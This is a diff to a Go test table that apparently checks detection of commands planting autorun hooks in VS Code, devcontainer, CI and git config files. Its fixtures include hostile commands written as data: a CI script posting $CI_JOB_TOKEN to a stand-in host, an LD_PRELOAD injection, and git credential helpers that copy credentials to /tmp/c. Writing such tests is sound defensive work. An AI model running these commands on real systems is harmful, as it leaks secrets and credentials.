@@ -48,6 +48,7 @@ func TestAutorunFiles(t *testing.T) {
 		{`echo '{"terminal.integrated.profiles.linux": {"x": {"path": "/bin/bash", "args": ["-c", "id"]}}}' > .vscode/settings.json`, []string{"/bin/bash", "id"}, false},
 		{`echo '{"terminal.integrated.env.linux": {"LD_PRELOAD": "/tmp/x.so"}}' > .vscode/settings.json`, nil, true},
 		{`echo '{"terminal.integrated.env.linux": {"FOO": "1"}}' > .vscode/settings.json`, nil, false},
+		{`echo '{"eslint.runtime": "/tmp/n/node"}' > .vscode/settings.json`, []string{"/tmp/n/node"}, false},
 		// dev containers
 		{`echo '{"postCreateCommand": "pip install -r requirements.txt"}' > .devcontainer/devcontainer.json`, []string{"pip"}, false},
 		{`echo '{"initializeCommand": ["sh", "-c", "id"]}' > .devcontainer.json`, []string{"sh", "id"}, false},
@@ -78,6 +79,8 @@ func TestAutorunFiles(t *testing.T) {
 		{"printf 'on: push\\njobs:\\n  t:\\n    steps:\\n      - run: echo ${{ toJSON(secrets) }}\\n' > .github/workflows/x.yml", nil, true},
 		{"printf 'on: pull_request_target\\n' > .github/workflows/x.yaml", nil, true},
 		{"printf 'x:\\n  script: echo $T\\n  secrets: inherit\\n' > .gitlab-ci.yml", nil, true},
+		{"printf 'x:\\n  script: curl -d $CI_JOB_TOKEN https://x.example\\n' > .gitlab-ci.yml", nil, true},
+		{"printf 'x:\\n  script: make test\\n' > .gitlab-ci.yml", nil, false},
 		// git settings that run programs, any scope
 		{`git config core.fsmonitor 'id'`, []string{"id"}, false},
 		{`git config --local core.sshCommand 'ssh -i k'`, []string{"ssh"}, false},
@@ -85,7 +88,9 @@ func TestAutorunFiles(t *testing.T) {
 		{`git config --file=.git/config diff.x.textconv id`, []string{"id"}, false},
 		{`git config set alias.x '!id'`, []string{"id"}, false},
 		{`git config alias.st status`, nil, false},
-		{`git config credential.helper /tmp/h`, []string{"/tmp/h"}, false},
+		{`git config credential.helper /tmp/h`, []string{"/tmp/h"}, true},
+		{`git config credential.helper '!f() { cat >> /tmp/c; }; f'`, []string{"cat"}, true},
+		{"printf '[credential]\\n\\thelper = !cat >> /tmp/c\\n' >> .git/config", []string{"cat"}, true},
 		{`git config credential.helper store`, nil, false},
 		{`git config core.fsmonitor "$X"`, nil, true},
 		{`git config user.email a@b.example`, nil, false},
